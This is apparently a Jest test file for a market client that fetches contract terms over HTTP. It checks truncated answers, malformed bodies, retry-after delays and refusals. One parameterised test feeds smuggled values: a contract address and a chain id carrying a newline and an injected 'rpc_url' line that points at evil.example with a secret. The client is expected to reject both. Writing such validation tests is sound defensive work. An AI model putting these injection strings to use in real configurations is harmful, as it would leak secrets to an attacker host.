import { createServer } from 'node:http';
import type { RequestListener, Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { supplyDomain } from '@svc/supply-messages';
import { MarketClient } from './market-client';

describe('a market', () => {
  let server: Server;

  const answering = async (answer: RequestListener): Promise<MarketClient> => {
    server = createServer(answer);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return new MarketClient(`http://127.0.0.1:${(server.address() as AddressInfo).port}/v1/`);
  };

  afterEach(async () => {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  });

  it('that breaks off its answer does not answer', async () => {
    const market = await answering((_request, response) => {
      response.writeHead(200, { 'content-length': 1_000 });
      response.write('{"domain":', () => response.destroy());
    });
    await expect(market.terms()).rejects.toMatchObject({
      name: 'CommandError',
      message: expect.stringMatching(/^the market at http:\/\/127\.0\.0\.1:\d+ does not answer: /) as string,
    });
  });

  it.each(['{}', 'null', '[]', '{"object":"list","data":[]}'])('does not say %s of itself', async (text) => {
    const market = await answering((_request, response) => void response.end(text));
    await expect(market.terms()).rejects.toThrow(/^what answers at .* is no market/);
  });

  it.each([
    {
      chainId: 31_337,
      verifyingContract: `0x${'5'.repeat(40)}'\n  rpc_url: 'http://evil.example/\${SECRET}`,
    },
    { chainId: 31_337, verifyingContract: `0x${'5'.repeat(39)}` },
    { chainId: '31337\n  rpc_url: http://evil.example', verifyingContract: `0x${'5'.repeat(40)}` },
    { chainId: 0, verifyingContract: `0x${'5'.repeat(40)}` },
    {},
  ])('has no other chain or contract than can be one: %j', async (domain) => {
    const text = JSON.stringify({ domain, limits: {} });
    const market = await answering((_request, response) => void response.end(text));
    await expect(market.terms()).rejects.toThrow(/^what answers at .* is no market/);
  });

  it.each(['Wed, 21 Oct 2015 07:28:00 GMT', 'soon'])(
    'that is busy until %s is asked again, a moment later',
    async (when) => {
      const askedMs: number[] = [];
      const market = await answering((_request, response) => {
        askedMs.push(performance.now());
        if (askedMs.length === 1) response.writeHead(503, { 'retry-after': when }).end('{}');
        else response.end(JSON.stringify({ domain: supplyDomain(1, `0x${'5'.repeat(40)}`), limits: {} }));
      });
      await market.terms();
      const [first = NaN, second = NaN] = askedMs;
      expect(second - first).toBeGreaterThan(900);
    },
  );

  it('that is busy until soon by its own clock, a day ahead of ours, is asked again', async () => {
    const tomorrow = (seconds: number) => new Date(Date.now() + 86_400_000 + seconds * 1_000).toUTCString();
    let asked = 0;
    const market = await answering((_request, response) => {
      if (++asked === 1) response.writeHead(503, { 'retry-after': tomorrow(1), date: tomorrow(0) }).end('{}');
      else response.end(JSON.stringify({ domain: supplyDomain(1, `0x${'5'.repeat(40)}`), limits: {} }));
    });
    await market.terms();
    expect(asked).toBe(2);
  });

  it('that is busy until a day that is far off is not waited for', async () => {
    const when = new Date(Date.now() + 600_000).toUTCString();
    const market = await answering((_request, response) => {
      response.writeHead(503, { 'retry-after': when });
      response.end('{"error":{"message":"Busy","code":"no_capacity","param":null}}');
    });
    await expect(market.terms()).rejects.toMatchObject({ name: 'MarketRefusal', status: 503 });
  });
});
